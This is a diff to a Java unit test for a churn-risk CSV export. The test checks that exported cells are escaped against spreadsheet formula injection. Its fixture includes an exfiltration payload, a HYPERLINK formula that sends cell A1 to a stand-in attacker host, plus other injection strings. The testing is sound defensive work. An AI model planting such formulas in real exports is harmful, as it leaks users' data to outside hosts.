@@ -48,7 +48,7 @@ class AtRiskExportTest {
     for (Object[] r : s) {
       LocalDate d = "other-day".equals(r[0]) ? AS_OF.minusDays(1) : AS_OF;
       rows.add(RowFactory.create(r[0], Date.valueOf(d), r[1], r[2], r[3], "v1", 64.0,
-          "plain".equals(r[0]) ? null : 22.1, Date.valueOf("2024-04-27")));
+          "plain".equals(r[0]) ? null : 22.1, Date.valueOf("2024-04-27"), Date.valueOf("2024-05-19"), 42));
     }
     return SharedSpark.get().createDataFrame(rows, ChurnScorer.SCHEMA);
   }
@@ -81,10 +81,11 @@ class AtRiskExportTest {
     List<CSVRecord> parsed = ExportCsv.read(w.localFile());
     ExportCsv.assertSameRows(expected, parsed);
     assertThat(parsed.stream().map(r -> r.get(0)).toList()).containsExactly(
-        "'+1", NEWLINES, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(A1:A9)", "'-2",
-        QUOTED, "plain"); // value at risk 375, 200, 91, 27.50, 0, -2, unknown CLV last
+        "+1", NEWLINES, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(A1:A9)", "-2",
+        QUOTED, "plain"); // value at risk 375, 200, 91, 27.50, 0, -2, unknown CLV last; numeric ids unchanged
     for (CSVRecord r : parsed) {
-      for (int i : new int[] {0, 2, 3, 9}) {
+      assertThat(r.get(0)).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("\t");
+      for (int i : new int[] {2, 3, 12, 13, 14}) {
         assertThat(r.get(i)).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
             .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
       }
@@ -92,7 +93,9 @@ class AtRiskExportTest {
     CSVRecord quoted = parsed.stream().filter(r -> r.get(0).equals(QUOTED)).findFirst().orElseThrow();
     assertThat(quoted.get(4)).isEqualTo("-5.00"); // a negative number stays a number
     assertThat(quoted.get(3)).isEqualTo("'=1+1");
-    assertThat(parsed.get(0).get(9)).isEqualTo(AtRiskExport.VIP_CALL);
+    assertThat(parsed.get(0).get(13)).isEqualTo(AtRiskExport.VIP_CALL);
+    assertThat(parsed.get(parsed.size() - 1).get(13)).isEqualTo(AtRiskExport.NO_ACTION); // "plain": band low
+    ExportCsv.assertNoContradictions(parsed);
 
     Map<?, ?> manifest = new ObjectMapper().readValue(w.localFolder().resolve(ExportWriter.MANIFEST).toFile(), Map.class);
     assertThat(manifest.get("rows")).isEqualTo(7);
@@ -112,7 +115,7 @@ class AtRiskExportTest {
     ExportWriter.write(AtRiskExport.compute(scores(), clv(), options(out, null, null)), out, AS_OF, "v1");
     ExportWriter.Written w = ExportWriter.write(AtRiskExport.compute(scores(), clv(), options(out, 2, null)), out,
         AS_OF, "v2");
-    assertThat(ExportCsv.read(w.localFile())).extracting(r -> r.get(0)).containsExactly("'+1", NEWLINES);
+    assertThat(ExportCsv.read(w.localFile())).extracting(r -> r.get(0)).containsExactly("+1", NEWLINES);
     try (Stream<Path> s = Files.list(w.localFolder().getParent())) {
       assertThat(s.count()).isEqualTo(1);
     }
